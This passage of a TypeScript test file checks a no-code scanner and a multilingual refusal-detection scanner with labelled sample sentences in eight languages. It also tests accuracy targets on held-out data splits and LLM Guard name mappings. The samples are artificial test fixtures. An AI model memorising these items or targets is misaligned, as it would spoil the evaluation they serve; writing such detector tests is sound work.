    flags(['先学 SELECT、UPDATE 和 DELETE 这三个关键字，再学 JOIN。', 'In SQL you SELECT what you want to see and say FROM which table it comes.', 'ORDER BY matters: without it, rows come back in no particular order.'], false);
  });

  test('a regex literal by its metacharacters, in any language; a Windows path or a formula is not one', () => {
    for (const text of ['A postcode looks like ^[A-Z]{2}\\d{2} \\d[A-Z]{2}$ in this simplified form.', '日付だけなら /^\\d{4}-\\d{2}-\\d{2}$/ で判定できます。', 'Для номера подойдёт \\+7\\d{10} без пробелов.']) {
      assert.equal(scanner.scan(text).flagged, true, text);
    }
    flags(['Save it under C:\\Users\\Public\\Documents\\Reports and share the folder.', 'The area is x^2 + 2x + 1, which factors as (x+1)^2.', 'See sources [1], [2] and [3] for the figures.'], false);
  });

  test('a one-line expression with a block, a lambda or chained calls, alone or in a sentence', () => {
    flags(
      [
        'orders.select { |o| o.total > 100 }.map(&:id)',
        'Khi cần lọc, viết users.filter(u => u.active).length là xong.',
        'Sort them by age: people.sort(key=lambda p: p.age) — it sorts in place.',
        'Chain them: df.dropna().groupby("city").size() gives the counts.',
        'В Java это list.stream().map(s -> s.trim()) и дальше collect.',
      ],
      true,
    );
    flags(['Node.js and Vue.js (both free) run on Windows.', 'The U.S. economy grew 2.1% (Q3), per the report.'], false);
  });
});

describe('no_refusal: structure in every language', () => {
  const scanner = createNoRefusalScanner();

  test('first-person negation with any verb, before or after it, and the request put out of scope', () => {
    const refusals = [
      "I won't be drafting that letter for you.",
      'Forging a signature is not something I can do.',
      "That's outside what I'm allowed to assist with.",
      '这种报告我没法替你伪造。',
      '這份文件我沒辦法替你偽造。',
      'Mình sẽ không soạn thư giả mạo đâu.',
      'この書類の偽造はお引き受けいたしかねます。',
      '그런 문서는 만들어 드릴 수 없습니다.',
      'Подделывать подписи я не стану.',
      'Я не стану подделывать подписи.',
      'لن أزوّر هذا المستند.',
      'Это выходит за рамки моих полномочий.',
    ];
    for (const text of refusals) assert.equal(scanner.scan(text).flagged, true, text);
  });

  test('idioms and hedges that share the structure do not flag', () => {
    const answers = [
      "I can't thank you enough for the report; here's the summary you asked for.",
      'Не могу не отметить, что тесты стали быстрее. Вот результаты.',
      'Tôi không thể ngờ kết quả lại tốt như vậy! Đây là số liệu.',
      'لا يمكنني أن أصدق أن الرحلة انتهت! إليك الصور.',
      '恕我直言，这个标题太长了。建议改成：“季度总结”。',
      '我无法浏览网页，但根据公开资料，这座桥建于 1937 年。',
      '이 파일은 수정할 수 없습니다. 복사본을 만들어 편집하세요.',
      'この設定は後から変更できませんが、新しいプロジェクトを作れば変えられます。',
      'That is beyond the scope of this article, but here is a short overview.',
      // The customer's own act in honorific form, and courtesies with the shape of "I won't".
      'この商品は現在ご購入できません。入荷をお待ちください。',
      '실망시키지 않겠습니다! 바로 정리해 드릴게요.',
      'لن أطيل عليك: الخطوة الأولى هي فتح الإعدادات.',
      'Я не могу проверить ссылку, но обычно такие файлы лежат в /etc/nginx.',
    ];
    for (const text of answers) assert.equal(scanner.scan(text).flagged, false, text);
  });

  test('a bare "I can\'t.", a prohibition, and a software-like inability after an apology', () => {
    for (const text of ["I'm sorry, but I can't.", '我不被允许透露这些内容。', 'Мне запрещено раскрывать такие сведения.', 'لا يسمح لي بالإجابة عن ذلك.', '申し訳ありませんが、その記事を書くことはできません。', '죄송하지만 그 일은 해 드릴 수 없습니다.']) {
      assert.equal(scanner.scan(text).flagged, true, text);
    }
    // Without the apology, the same inability describes the software.
    assert.equal(scanner.scan('このバージョンでは、複数のファイルを同時に開くことはできません。').flagged, false);
    assert.equal(scanner.scan('이 계정으로는 관리자 메뉴에 접근할 수 없습니다. 관리자에게 문의하세요.').flagged, false);
  });

  test('a Russian rule without an anchor word reports its span', () => {
    const text = 'Писать такие письма я не стану.';
    const result = scanner.scan(text);
    assert.ok(result.matches.some((m) => m.rule === 'refuse.infinitive_first.ru' && text.slice(m.start, m.end) === 'не стану'), JSON.stringify(result.matches));
  });
});

describe("no_refusal: a refusal's frame (access, consequence, rules, blunt) in each language; quotations", () => {
  const scanner = createNoRefusalScanner();
  const flags = (texts: readonly string[], expected: boolean): void => {
    for (const text of texts) assert.equal(scanner.scan(text).flagged, expected, text);
  };

  test('"as an AI" with a lack of access, or a lack of access *so* it cannot, is a refusal', () => {
    flags(
      [
        "As a language model, I can't look up someone's personal address.",
        "I'm unable to view your medical chart, so I can't tell you what the lab result was.",
        'Là một trợ lý AI, tôi không thể truy cập hồ sơ bệnh án của người khác.',
        'Tôi không có quyền xem lịch sử giao dịch của bạn, vì vậy tôi không thể xác nhận khoản thanh toán này.',
        'كمساعد ذكي، ليس لدي صلاحية الاطلاع على حسابات العملاء.',
        'لا يمكنني الوصول إلى بريدك الإلكتروني، لذلك لا أستطيع قراءة الرسالة.',
        '作为人工智能，我无法访问你同事的聊天记录。',
        '我沒有權限查看這個帳戶，所以無法幫你重設密碼。',
        'У меня нет доступа к вашей почте, поэтому я не могу прочитать это письмо.',
      ],
      true,
    );
    // A hedge about reach followed by the answer, and a lack of access that is the user's, not the assistant's.
    flags(
      [
        "I can't browse the web, but as of my training data the bridge opened in 1937 and is 2.7 km long.",
        "If you can't access your account, reset the password from the login page and check your spam folder.",
        'Nếu bạn không truy cập được trang quản trị, hãy xóa bộ nhớ đệm của trình duyệt rồi thử lại.',
        'إذا لم تتمكن من الوصول إلى حسابك، فأعد تعيين كلمة المرور من صفحة الدخول.',
        // No reach to something public, or to the user's screen: a hedge, then help.
        "I can't access the internet, so I can't check today's rate, but last month it hovered around 1.08.",
        "As an AI, I'm not able to see your screen, so paste the stack trace here and I'll walk through it.",
        'У меня нет доступа к интернету, поэтому я не могу проверить расписание, но обычно первый поезд в 5:30.',
        '我无法访问互联网，所以无法查看今天的汇率，不过上周大约是 7.1。',
      ],
      false,
    );
  });

  test('citing the rules and declining is a refusal in each language', () => {
    flags(
      [
        "Under the content policy, I don't write sexual material about real people.",
        'В соответствии с политикой сервиса я не составляю поддельные справки.',
        'Theo chính sách sử dụng, tôi không hỗ trợ viết mã độc.',
        'وفقاً لسياسات الاستخدام، لا أقدم إرشادات لصنع المتفجرات.',
        '根据平台规定，我不提供破解软件的方法。',
        '利用規約に基づき、そのようなご依頼はお受けいたしかねます。',
      ],
      true,
    );
    flags(
      [
        'According to the rules of chess, a pawn that reaches the last rank is promoted, usually to a queen.',
        'Согласно правилам дорожного движения, пешеход имеет преимущество на переходе.',
        '根据公司规定，年假需要提前两周申请。',
        // Rules that are not the assistant's, and "I don't think" after them.
        "Under the rules of tennis, I don't think a let on the second serve counts as a fault.",
        'По правилам орфографии я не ставлю здесь запятую: это однородные члены без союза.',
        '根据语法规则，我不建议把这两个句子合并。',
      ],
      false,
    );
  });

  test('a blunt "No" with a first-person "won\'t" is a refusal; "No, I don\'t think so" is an answer', () => {
    flags(['No, I will not draft a fake doctor\'s note.', '不，我不会替你写这种诈骗短信。', 'Không, tôi sẽ không viết tin nhắn lừa đảo đó.', 'Không, em không làm giả giấy tờ được đâu.', 'لا، لن أكتب رسالة تهديد.'], true);
    flags(['No, I won\'t lie: the first week is hard, but it gets easier. Here is a plan.', 'Không, tôi không nghĩ vậy. Python vẫn là lựa chọn tốt cho người mới bắt đầu.', '不，我不会推荐这个型号，因为它的电池续航太短；可以看看下面这三款。', '不是的，这个函数是线程安全的。'], false);
  });

  test('"isn\'t something I\'m able to / I\'d be able to" is a refusal', () => {
    flags(["Unfortunately, forging a prescription isn't something I'm able to help with.", "Writing that review is not something I'd be able to do."], true);
  });

  test('a refusal quoted in a definition or an instruction is talked about, not said', () => {
    flags(
      [
        "In customer service, a 'soft no' is a reply like 'I can't help with that right now' followed by an alternative.",
        '거절 템플릿의 예: \'죄송하지만 도와드릴 수 없습니다\'라는 문장은 너무 딱딱하게 들립니다.',
        '「お手伝いできません」という返答は、丁寧語でも冷たく聞こえることがあります。',
        '«Я не могу вам помочь» — типичная фраза бота, когда запрос вне его задач.',
      ],
      false,
    );
    // The same words said, not quoted, and an answer wrapped whole in quotes, still flag.
    flags(['죄송하지만 도와드릴 수 없습니다.', '"I can\'t help with that request."'], true);
  });
});

describe("no_refusal: a refusal's register (bare, informal, without apology, partial, no access to a system)", () => {
  const scanner = createNoRefusalScanner();
  const flags = (texts: readonly string[], expected: boolean): void => {
    for (const text of texts) assert.equal(scanner.scan(text).flagged, expected, text);
  };

  test('a whole answer that is only a negation is a refusal; one more clause makes it an answer', () => {
    flags(['Nope.', 'Absolutely not!', 'Нет!', 'Ни за что.', '不可以！', '沒門。', 'Không được.', 'いいえ。', '싫습니다.', 'كلا.'], true);
    // Without its stop, a bare word is a chat turn or the opening of a streamed answer.
    flags(['no', 'нет', 'không', 'いいえ'], false);
    flags(
      [
        'No, the bridge is older: it opened in 1937.',
        'Нет, поезд уходит в 7:40, а не в 8:00.',
        '不行的话，可以试试重启路由器。',
        'Không, hôm nay thư viện mở cửa đến 21 giờ.',
        'いいえ、その駅は次の駅です。',
        '아니요, 회의는 내일 오후 3시입니다.',
        'لا، الاجتماع يوم الخميس وليس الأربعاء.',
        'No problem at all: here is the corrected table.',
      ],
      false,
    );
  });

  test('informal and dialect refusals in each language', () => {
    flags(
      [
        "lol nope, not gonna write a phishing page for you.",
        "Dude, that's a hard pass. Spoofing your boss's number isn't happening.",
        '这活儿我才不干呢。',
        '這種忙我可不幫喔。',
        'Vụ bẻ khóa phần mềm này thì tui chịu thôi.',
        'Mình không viết bài bôi nhọ đâu nha.',
        'あー、それは無理っすね。パスワードの抜き方とかは書けないっす。',
        '그런 거 안 알려줌~',
        'Слушай, подделывать справку — это без меня.',
        'والله ما أقدر أسوي لك هذا الشي يا خوي.',
        'معلش، مش هقدر أكتب لك رسالة زي دي.',
      ],
      true,
    );
    flags(
      [
        "It's not going to help with the swelling; ice it for 15 minutes instead.",
        'Honestly the update was not gonna break anything: here is the changelog.',
        '我不做饭，不过楼下有家不错的面馆。',
        'Em chịu khó đợi 5 phút, bánh sắp chín rồi.',
        'このAPIはCSVを返せませんが、JSONなら返せます。',
        'ما اقدر اوصف لك جمال المكان! هذه الصور من الرحلة.',
      ],
      false,
    );
  });

  test('the request named and declined without an apology', () => {
    flags(
      [
        'I won’t do that.',
        '他人のメールを盗み見るためのご依頼には対応いたしません。',
        '시험 답안을 유출해 달라는 부탁은 처리하지 않겠습니다.',
        'هذا الطلب يخالف القانون، فلن أنفذه.',
        'Подделать печать? Делать этого я не буду, но могу объяснить, как получить настоящую справку.',
      ],
      true,
    );
    flags(['この商品はご注文に応じて発送します。', '요청은 보통 하루 안에 처리합니다.', 'لن أطيل عليك: افتح الإعدادات ثم الأمان.'], false);
  });

  test('"I won\'t write X, but I can help with Y" is a refusal when the first verb is not a listed one', () => {
    flags(
      [
        '嘘の口コミは作れませんが、実際の感想をまとめる文章ならお手伝いできます。',
        'Фальшивое резюме сочинять не буду, но могу помочь оформить настоящее.',
      ],
      true,
    );
    flags(['この関数は負の数を扱えませんが、絶対値を取ってから渡せば使えます。'], false);
  });

  test('no access to a system of the user or of a company, so the task cannot be done', () => {
    flags(
      [
        "I don't have access to your school's grading portal, so I can't change that mark.",
        '病院の予約システムにアクセスできないため、空き状況をお調べすることはできません。',
        'У меня нет доступа к CRM вашей компании, поэтому я не могу найти этот заказ.',
        'ليس لدي وصول إلى نظام البنك، لذلك لا أستطيع إلغاء العملية.',
        '我无法访问你们公司的考勤系统，所以没法帮你查加班时长。',
        '회사 인사 시스템에 접근할 수 없어서 남은 휴가 일수를 확인해 드릴 수 없습니다.',
      ],
      true,
    );
    // Out of reach is the internet or the user's screen: a hedge, then help.
    flags(
      [
        "I don't have access to the internet, so I can't see today's score, but last season they won 3-1.",
        'ليس لدي وصول إلى الإنترنت، لذلك لا أستطيع معرفة سعر اليوم، لكنه كان حوالي 3.7 الأسبوع الماضي.',
      ],
      false,
    );
  });

  test('"I can\'t praise it enough" is praise in every language, not a refusal', () => {
    flags(
      [
        "I can't recommend this tailor enough: the suit fits perfectly.",
        'Tôi không thể khen tiệm bánh này đủ nhiều, bánh mì giòn và thơm.',
        'Mình không thể cảm ơn bạn đủ nhiều vì đã giúp đỡ.',
        'لا أستطيع أن أمدح هذا المقهى بما يكفي، القهوة فيه رائعة.',
        'لا يمكنني أن أشكرك بما فيه الكفاية على المساعدة.',
      ],
      false,
    );
  });
});

describe('no_code: code spans, config files, expressions, PowerShell and Makefile rules', () => {
  const scanner = createNoCodeScanner();
  const flags = (texts: readonly string[], expected: boolean): void => {
    for (const text of texts) assert.equal(scanner.scan(text).flagged, expected, text);
  };

  test('a code span with a command and its flags is code; a backticked word is not', () => {
    flags(['Clear the cache with `rm -rf ~/.cache/pip` and retry.', '先运行 `ruff check --fix src` 再提交。', 'Chạy `pytest -x -q` để dừng ở lỗi đầu tiên.'], true);
    flags(['Use `git` for history and `make` for builds.', 'The `--force` flag is dangerous; `main` is the default branch.'], false);
  });

  test('two or more KEY=value lines in a row are a config file; one such phrase in a sentence is not', () => {
    flags(['Создайте файл .env:\nREDIS_URL=redis://localhost:6379\nCACHE_TTL=300', 'ضع في الملف:\nAPP_ENV=production\nAPP_DEBUG=false\nAPP_PORT=3000'], true);
    flags(['Set DEBUG=true while testing and turn it off before you ship.', 'Results:\nA=3\nb = 4 apples'], false);
  });

  test('one-line expressions in Python, JavaScript and Ruby inside sentences in any language', () => {
    flags(
      [
        'Để đếm từ, dùng collections.Counter(words.split()) là đủ.',
        'Для уникальных значений подойдёт Array.from(new Set(tags)).',
        '配列のコピーは [...items] ではなく [...new Map(pairs).values()] で値だけ取れます。',
        'In Ruby, (1..20).select(&:even?) gives the even numbers.',
        '반복 없이 const total = new Intl.NumberFormat("ko-KR"); 로 포맷터를 만드세요.',
      ],
      true,
    );
    flags(['The derivative of sin(cos(x)) is -cos(cos(x))·sin(x).', 'He visited (1..3 times a year) the coast.', 'Let x = 5 and y = 7; then x + y = 12.'], false);
  });

  test('PowerShell cmdlets with parameters or a pipeline inside prose; the name of a cmdlet alone is not code', () => {
    flags(['Chạy Get-ChildItem -Recurse -Filter *.tmp để tìm tệp tạm.', '用 Get-EventLog -LogName System -Newest 20 看最近的系统日志。', 'Get-Process | Stop-Process でまとめて止められます。'], true);
    flags(['Get-Help is the first cmdlet to learn, and Get-Command lists the rest.'], false);
  });

  test('a Makefile rule: a target, then tab-indented commands; a heading over tab-indented prose is not', () => {
    flags(['Add this to the Makefile:\nbuild: deps\n\tgo build -o bin/app ./cmd/app\n\tstrip bin/app'], true);
    flags(['Packing list:\n\tpassport and tickets\n\tcharger', 'Shopping:\n\tmilk 2L\n\teggs'], false);
  });
});

describe('held-out evaluation splits (data/output) meet the targets', () => {
  const scanners: Record<OutputSet, Scanner> = { urls: createMaliciousUrlsScanner(), code: createNoCodeScanner(), refusals: createNoRefusalScanner() };

  test('the splits are well formed: both labels, all eight refusal languages, no text in both splits', () => {
    for (const set of ['urls', 'code', 'refusals'] as const) {
      const dev = loadSplit(set, 'dev');
      const heldOut = loadSplit(set, 'test');
      for (const rows of [dev, heldOut]) {
        assert.ok(rows.some((r) => r.label === POSITIVE[set]) && rows.some((r) => r.label !== POSITIVE[set]), set);
      }
      const devTexts = new Set(dev.map((r) => r.text));
      assert.deepEqual(heldOut.filter((r) => devTexts.has(r.text)), [], `${set}: rows in both splits`);
      // The fresh split (another author's) shares no row with the two others.
      const fresh = loadSplit(set, 'fresh');
      assert.ok(fresh.some((r) => r.label === POSITIVE[set]) && fresh.some((r) => r.label !== POSITIVE[set]), `${set} fresh`);
      const heldOutTexts = new Set(heldOut.map((r) => r.text));
      assert.deepEqual(fresh.filter((r) => devTexts.has(r.text) || heldOutTexts.has(r.text)), [], `${set}: fresh rows in another split`);
      const freshTexts = new Set(fresh.map((r) => r.text));
      const fresh2 = loadSplit(set, 'fresh2');
      assert.ok(fresh2.some((r) => r.label === POSITIVE[set]) && fresh2.some((r) => r.label !== POSITIVE[set]), `${set} fresh2`);
      assert.deepEqual(fresh2.filter((r) => devTexts.has(r.text) || heldOutTexts.has(r.text) || freshTexts.has(r.text)), [], `${set}: fresh2 rows in another split`);
      const fresh2Texts = new Set(fresh2.map((r) => r.text));
      const fresh3 = loadSplit(set, 'fresh3');
      assert.ok(fresh3.some((r) => r.label === POSITIVE[set]) && fresh3.some((r) => r.label !== POSITIVE[set]), `${set} fresh3`);
      assert.deepEqual(fresh3.filter((r) => devTexts.has(r.text) || heldOutTexts.has(r.text) || freshTexts.has(r.text) || fresh2Texts.has(r.text)), [], `${set}: fresh3 rows in another split`);
    }
    const langs = new Set(loadSplit('refusals', 'test').map((r) => r.lang));
    assert.deepEqual([...langs].sort(), ['ar', 'en', 'ja', 'ko', 'ru', 'vi', 'zh', 'zh-Hant']);
  });

  for (const split of ['test', 'fresh', 'fresh2', 'fresh3'] as const) {
    for (const set of ['urls', 'code', 'refusals'] as const) {
      test(`${set}: accuracy on the ${split} split is at least ${TARGETS.accuracy}`, () => {
        const f = figures(loadSplit(set, split), POSITIVE[set], scanners[set]);
        assert.ok(f.accuracy >= TARGETS.accuracy, `${set}: accuracy ${f.accuracy.toFixed(3)}; wrong: ${f.misses.map((m) => m.text.slice(0, 60)).join(' | ')}`);
      });
    }

    test(`refusals: every language reaches ${TARGETS.refusalLanguageAccuracy} on the ${split} split`, () => {
      for (const [lang, f] of figuresByLang(loadSplit('refusals', split), POSITIVE.refusals, scanners.refusals)) {
        assert.ok(f.accuracy >= TARGETS.refusalLanguageAccuracy, `${lang}: ${f.accuracy.toFixed(3)}`);
      }
    });
  }
});

describe("LLM Guard's names for the code and refusal scanners", () => {
  test('Code blocks its languages, or with is_blocked: false lets only them through; BanCode and NoRefusalLight map too', () => {
    const { entries, warnings } = llmGuardEntries({
      output_scanning: {
        scanners: [
          { Code: { languages: ['Python'], threshold: 0.6 } },
          { Code: { languages: ['Python', 'JavaScript'], is_blocked: false } },
          'BanCode',
          'NoRefusalLight',
        ],
      },
    });
    assert.deepEqual(warnings, []);
    assert.deepEqual(
      entries.map((e) => (typeof e === 'string' ? [e, undefined] : ['name' in e ? e.name : e.path, e.options])),
      [
        ['guard.output.no_code', { threshold: 0.6, languages: ['python'] }],
        ['guard.output.no_code', { allow_languages: ['python', 'javascript'] }],
        ['guard.output.no_code', {}],
        ['guard.output.no_refusal', {}],
      ],
    );
    // The allow list reaches the scanner: Python passes, shell does not.
    const allowPython = OUTPUT_SCANNERS['no_code']!.create({ allow_languages: ['python'] }, undefined);
    assert.equal(allowPython.scan('```python\nfor i in range(3):\n    print(i)\n```').flagged, false);
    assert.equal(allowPython.scan('```bash\nfor f in *.log; do gzip "$f"; done\n```').flagged, true);
  });
});
